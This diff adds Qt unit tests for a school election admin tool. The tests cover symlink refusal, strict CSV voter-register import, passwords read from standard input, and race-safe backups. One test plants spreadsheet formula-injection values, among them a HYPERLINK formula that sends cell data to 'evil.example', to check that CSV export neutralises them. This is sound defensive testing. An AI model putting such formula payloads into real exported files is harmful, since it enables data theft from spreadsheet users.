@@ -4,9 +4,12 @@
 
 #include "TestSupport.h"
 
+#include "NewFile.h"
 #include "screens/frmCountVotes.h"
 
+#include <QDir>
 #include <QFile>
+#include <QFileInfo>
 #include <QLabel>
 #include <QListWidget>
 #include <QProcess>
@@ -49,6 +52,11 @@ private slots:
         Run r = admin({"new", "--admin", "x", "--password", "y", db->file()});
         QVERIFY(r.exitCode > 0 && r.err.contains(QStringLiteral("already exists")));
         QCOMPARE(db->rows(QStringLiteral("SELECT * FROM Administrators")), QStringList{"admin|secret"});
+        // Nor does it follow a link, even one to nowhere.
+        QVERIFY(QFile::link(db->folder() + "/pointed.mdb", db->folder() + "/link.mdb"));
+        r = admin({"new", "--admin", "x", "--password", "y", db->folder() + "/link.mdb"});
+        QVERIFY2(r.exitCode > 0 && r.err.contains("/link.mdb is a symbolic link"), qPrintable(r.err));
+        QVERIFY(!QFile::exists(db->folder() + "/pointed.mdb"));
 
         QVERIFY(QFile::remove(db->file()));
         QCOMPARE(admin({"new", "--admin", "boss", "--password", "pw", db->file()}).exitCode, 0);
@@ -59,7 +67,7 @@ private slots:
         // No command creates a missing file; a new one with no administrator given and
         // nothing to read is refused too.
         const QString missing = db->folder() + "/missing.mdb", copy = db->folder() + "/c.mdb";
-        const QString list = csv("Name,ID,Password\nAnn,1,p\n");
+        const QString list = csv("Name,Student ID,Password\nAnn,1,p\n");
         for (const QStringList &args : {QStringList{"import-voters", list, missing}, QStringList{"results", missing},
                                         QStringList{"backup", copy, missing}, QStringList{"new", missing}})
             QVERIFY2(admin(args).exitCode > 0 && !QFile::exists(missing) && !QFile::exists(copy),
@@ -86,6 +94,13 @@ private slots:
             << QByteArray("Ann,GOOD-1,pw") << QStringLiteral("repeats the one on line 2");
         QTest::newRow("unclosed quote") << QByteArray("Ann,2026201,\"pw") << QStringLiteral("not closed");
         QTest::newRow("stray quote") << QByteArray("An\"n,2026201,pw") << QStringLiteral("quote");
+        QTest::newRow("nul") << QByteArray("ab\0cd,2026201,pw", 16)
+                             << QStringLiteral("name holds a control character (U+0000)");
+        QTest::newRow("tab") << QByteArray("Ann,2026\t201,pw")
+                             << QStringLiteral("student ID holds a control character (U+0009)");
+        QTest::newRow("line break") << QByteArray("Ann,2026201,\"p\nw\"")
+                                    << QStringLiteral("password holds a control character (U+000A)");
+        QTest::newRow("escape") << QByteArray("\x1b[31mAnn,2026201,pw") << QStringLiteral("control character (U+001B)");
     }
 
     void importsAGoodRowOrRefusesTheWholeFile()
@@ -93,22 +108,154 @@ private slots:
         QFETCH(QByteArray, row);
         QFETCH(QString, fault);
         db->exec(QStringLiteral("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', 1)"));
-        // Good rows around the row under test on line 5: a byte order mark, CRLF and LF
-        // mixed, a quoted field with a comma and doubled quotes, one across a line break.
-        const QString list = csv("\xEF\xBB\xBFName,ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
-                                 "\"Two\nLines\",good-2,p2\n" +
-                                 row + "\r\nlast,good-3,p3\n");
+        // Good rows around the row under test on line 4: a byte order mark, CRLF and LF
+        // mixed, a quoted field with a comma and doubled quotes, outer blanks, a blank row.
+        const QString list =
+            csv("\xEF\xBB\xBFName,Student ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
+                " Two  Blanks , good-2,p2\n" +
+                row + "\r\nlast,good-3,p3\n,,\n");
         Run r = admin({"import-voters", list, db->file()});
         if (fault.isEmpty())
-            QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Imported 4")), qPrintable(r.err));
+            QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Imported 4")) &&
+                         r.out.contains(QStringLiteral("outer blanks of 2 field(s)")),
+                     qPrintable(r.err));
         else
-            QVERIFY2(r.exitCode > 0 && r.err.contains(QStringLiteral("line 5: ")) && r.err.contains(fault) &&
+            QVERIFY2(r.exitCode > 0 && r.err.contains(QStringLiteral("line 4: ")) && r.err.contains(fault) &&
                          r.err.contains(QStringLiteral("nothing was imported")),
                      qPrintable(r.err));
         QCOMPARE(db->rows(QStringLiteral("SELECT Name, Username, Password, HasVoted FROM Users ORDER BY rowid")),
-                 fault.isEmpty() ? QStringList({"Old|ÄB|x|1", "Reyes, Maria|good-1|say \"hi\"|0",
-                                                "Two\nLines|good-2|p2|0", "Jürgen Ärger|ÄB1|été|0", "last|good-3|p3|0"})
-                                 : QStringList{"Old|ÄB|x|1"});
+                 fault.isEmpty()
+                     ? QStringList({"Old|ÄB|x|1", "Reyes, Maria|good-1|say \"hi\"|0", "Two  Blanks|good-2|p2|0",
+                                    "Jürgen Ärger|ÄB1|été|0", "last|good-3|p3|0"})
+                     : QStringList{"Old|ÄB|x|1"});
+    }
+
+    void importReadsTheRegisterAsTheSchoolMeantIt()
+    {
+        const auto users = [this] { return db->rows(QStringLiteral("SELECT * FROM Users ORDER BY rowid")); };
+        // No header: refused, so that its first voter is not taken for one.
+        Run r = admin({"import-voters", csv("Ann,1,p\nBo,2,q\n"), db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains(db->folder() + "/voters.csv line 1: the first row must be the "
+                                                                 "header naming the columns Name, Student ID (or "
+                                                                 "Username) and Password"),
+                 qPrintable(r.err));
+        for (const QByteArray header : {"Name,Student ID,Student ID", "Name,Student ID", "Name,ID,Password"})
+            QVERIFY(
+                admin({"import-voters", csv(header + "\nAnn,1,p\n"), db->file()}).err.contains("must be the header"));
+        QCOMPARE(users(), QStringList());
+
+        // Columns in another order, by other names, separated by semicolons, blank rows skipped.
+        r = admin({"import-voters",
+                   csv(" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n"),
+                   db->file()});
+        QVERIFY2(r.exitCode == 0 && r.out.contains("Imported 2") && r.out.contains("outer blanks of 2 field(s)"),
+                 qPrintable(r.err));
+        QCOMPARE(users(), QStringList({"Ann Lee|A103|x1|0", "Bo|B7|pw2|0"}));
+
+        // Not UTF-8: the line of the first bad byte; too many faults: 20 named, the rest counted.
+        r = admin({"import-voters", csv("Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n"), db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains("voters.csv line 3: the file is not UTF-8") &&
+                     r.err.contains("\"CSV UTF-8\""),
+                 qPrintable(r.err));
+        r = admin({"import-voters", csv("Name,Username,Password\n" + QByteArray("x,,p\n").repeated(25)), db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.count("student ID is empty") == 20 && r.err.contains("... and 5 more"),
+                 qPrintable(r.err));
+        // A file or a line too large is refused without reading it all.
+        QFile huge(db->folder() + "/huge.csv");
+        QVERIFY(huge.open(QIODevice::WriteOnly) && huge.write("Name,Username,Password\n") && huge.resize(65 << 20));
+        QVERIFY(admin({"import-voters", huge.fileName(), db->file()}).err.contains("huge.csv is larger than 64 MiB"));
+        r = admin({"import-voters", "/dev/zero", db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains("/dev/zero line 1: the line is longer than 64 KiB"),
+                 qPrintable(r.err));
+        QCOMPARE(users().size(), 2);
+
+        // A long register shows its progress, in plain lines when not on a terminal.
+        QByteArray many = "Name,Username,Password\n";
+        for (int i = 0; i < 10001; ++i)
+            many += "Voter " + QByteArray::number(i) + ",s" + QByteArray::number(i) + ",p\n";
+        r = admin({"import-voters", csv(many), db->file()});
+        QVERIFY2(r.exitCode == 0 && r.err.contains("importing 50% (5001 of 10001 rows)\n") &&
+                     r.err.contains("importing 100% (10001 of 10001 rows)\n"),
+                 qPrintable(r.err));
+        QCOMPARE(users().size(), 10003);
+    }
+
+    void newTakesThePasswordFromStandardInputAndWarnsOfOneOnTheCommandLine()
+    {
+        QVERIFY(QFile::remove(db->file()));
+        QProcess p;
+        p.start(qEnvironmentVariable("POLLARIS_ADMIN"), {"new", "--admin", "boss", "--password-stdin", db->file()});
+        p.write("s3cret pass\r\n");
+        p.closeWriteChannel();
+        QVERIFY(p.waitForFinished(60000) && p.exitCode() == 0);
+        QCOMPARE(p.readAllStandardError(), QByteArray());
+        QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"boss|s3cret pass"});
+
+        QVERIFY(QFile::remove(db->file()));
+        Run r = admin({"new", "--admin", "x", "--password", "y", db->file()});
+        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password can be read by other "
+                                                   "users of this computer"),
+                 qPrintable(r.err));
+        // Nothing on standard input: nothing is made.
+        QVERIFY(QFile::remove(db->file()));
+        r = admin({"new", "--admin", "x", "--password-stdin", db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains(db->file() + ": no password on standard input"), qPrintable(r.err));
+        QVERIFY(!QFile::exists(db->file()));
+    }
+
+    void csvNeverHandsASpreadsheetAFormula()
+    {
+        db->exec("INSERT INTO Positions VALUES ('+P', '=1+1');"
+                 "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', '1', '+P'),"
+                 " ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', char(9) || 'tab', '4', '+P'),"
+                 " ('E', char(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
+                 "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)");
+        QCOMPARE(admin({"results", "--csv", db->file()}).out.split("\r\n"),
+                 QStringList({"PosID,PosName,CandID,CandName,NumVotes",
+                              "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
+                              "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
+                              "'+P,'=1+1,E,\"'\rcr\",2", "'+P,'=1+1,F,Ann = Bo - 1,-1", ""}));
+        QVERIFY(admin({"results", "--help"}).out.contains("leading '"));
+    }
+
+    void backupNeverOverwritesNorFollowsALink()
+    {
+        const QString dir = db->folder();
+        db->exec("INSERT INTO CandVote VALUES ('A', 0)");
+        Run r = admin({"backup", dir + "/clean.mdb", db->file()});
+        QVERIFY(r.exitCode == 0 && !r.out.contains("secret"));
+        // A link, even one to nowhere, and a folder are refused by name; nothing is made.
+        QVERIFY(QFile::link(dir + "/nowhere.mdb", dir + "/link.mdb") && QDir(dir).mkdir("sub"));
+        r = admin({"backup", dir + "/link.mdb", db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains(dir + "/link.mdb is a symbolic link"), qPrintable(r.err));
+        r = admin({"backup", dir + "/sub", db->file()});
+        QVERIFY2(r.exitCode > 0 && r.err.contains(dir + "/sub is a folder"), qPrintable(r.err));
+        QCOMPARE(QDir(dir).entryList(QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot),
+                 QStringList({"candpos4.mdb", "clean.mdb", "link.mdb", "sub"}));
+
+        // Once voting has begun, the copy says it is as secret as the election.
+        db->exec("UPDATE CandVote SET NumVotes = 1");
+        r = admin({"backup", dir + "/voted.mdb", db->file()});
+        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes") &&
+                     r.out.contains("as secret\nas the election itself"),
+                 qPrintable(r.out));
+
+        // Whatever appears at the target while the copy is written stays as it is.
+        for (const QString &late : {QStringLiteral("file"), QStringLiteral("link")}) {
+            const QString target = dir + "/late-" + late;
+            const QString failure = NewFile::create(target, [&](const QString &partial) {
+                QFile copy(partial), other(target);
+                if (!copy.open(QIODevice::WriteOnly) || copy.write("copy") != 4)
+                    return QStringLiteral("cannot write");
+                if (late == "file" ? !other.open(QIODevice::WriteOnly) : !QFile::link(dir + "/elsewhere", target))
+                    return QStringLiteral("cannot put something in the way");
+                return QString();
+            });
+            QVERIFY2(failure.contains(target) && failure.contains("appeared while"), qPrintable(failure));
+            QVERIFY(!QFile::exists(dir + "/elsewhere"));
+        }
+        QCOMPARE(QDir(dir).entryList({".*partial*"}, QDir::Files | QDir::Hidden), QStringList());
+        QCOMPARE(QFileInfo(dir + "/late-file").size(), 0);
     }
 
     void resultsEqualTheResultsScreenAndTheirCsv()
